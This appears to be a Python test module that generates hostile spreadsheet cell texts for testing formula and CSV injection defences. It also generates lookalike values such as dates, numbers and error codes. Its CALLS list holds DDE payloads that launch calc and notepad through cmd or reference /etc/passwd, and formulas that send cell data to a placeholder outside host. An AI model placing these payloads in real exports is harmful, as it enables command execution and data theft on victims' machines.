"""Texts that a spreadsheet would calculate, or take for something else than what was written."""

from tests.hostile.cases import drawn, of_text

BEFORE = (
    "", " ", "  ", "\t", "\n", "\r\n", "\u00a0", "\u202f", "\u3000", "\u200b", "\ufeff", "\u2060",
    "'", "''", '"', "\x01", "\x0b", "a;", "a,", "a\t", 'a";"', "oui\n", "\u00ad", "\u200e",
    "a|", "a, ", 'a,"', 'a;""', 'a\t" ', "a,'", "oui,\n", "a\u2028", "a,\u3000", "a|\u200b'",
    ",,", "\t\t",
)  # fmt: skip
CHARACTERS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "%3D",
    "=+",
    "-+",
    "=-@",
)
CALLS = (
    "1+1",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'HYPERLINK("https://ailleurs.invalid/?"&A1;"cliquez ici")',
    'WEBSERVICE("https://ailleurs.invalid/"&A2)',
    "cmd|'/c notepad'!_xlbgnm.A1",
    'DDE("soffice";"/etc/passwd";"x")',
    'IMPORTXML(CONCAT("https://ailleurs.invalid/",A1:Z9),"//a")',
    'IMAGE("https://ailleurs.invalid/x.png")',
    'INDIRECT("A"&1)',
    "'https://ailleurs.invalid/[x.xlsx]Feuil1'!A1",
    "MSEXCEL|'\\..\\..\\x.exe'!''",
    "SOMME(A1:A9)",
    "2 points",
    "33 1 23 45 67",
)
AFTER = (
    "", '"', "\n=1+1", ";=1+1", "\t=1+1", "'", ",=1+1", "|=1+1", ',"=1+1', "\n\n'=1+1",
    ",", ';"', ",'", "\n", '|"\n', ',\n"', "\t ", ", oui", "\n- un\n- deux",
)  # fmt: skip


def formulas(chance, count):
    """Beginnings of formulas behind whatever might be dropped before them."""
    for before, character, call, after in drawn(chance, count, BEFORE, CHARACTERS, CALLS, AFTER):
        yield of_text("formulas", f"{before}{character}{call}{after}")


PHRASES = ("TRUE", "VRAI", "FALSE", "null", "NaN", "inf", "#N/A", "#REF!", "N/A", "None")
LOOKALIKES = (
    lambda number: f"{number:05}", lambda number: f"0{number}",
    lambda number: f"{number}{number:015}7", lambda number: f"{number}E{number % 12}",
    lambda number: f"{number % 12 + 1}-{number % 28 + 1}",
    lambda number: f"{number % 28 + 1}/{number % 12 + 1}",
    lambda number: f"20{number % 90 + 10}-11-24", lambda number: f"{number % 24}:{number % 60:02}",
    lambda number: f"{number},50 €", lambda number: f"{number} %", lambda number: f"({number})",
    lambda number: f"0x{number:X}", lambda number: f"1.{number}.{number}",
    lambda number: PHRASES[number % len(PHRASES)],
    lambda number: f"_x{number % 65536:04X}_", lambda number: f"_x005F_x{number % 65536:04x}_",
    lambda number: f"a  b\tc   {number}", lambda number: f"ligne {number}\n\n\n  en retrait\nfin",
    lambda number: "\n".join(f"- point {line}" for line in range(number % 200)) or "-",
    lambda number: f"« {number}\u202f000 »\u00a0; c’est\u00a0!",
    lambda number: "long " * (number % 900 + 1),
)  # fmt: skip


def lookalikes(chance, count):
    """Texts that look like numbers, dates, errors or escapes, and long and spaced ones."""
    for make, number in drawn(chance, count, LOOKALIKES, range(1, 999)):
        yield of_text("lookalikes", make(number))
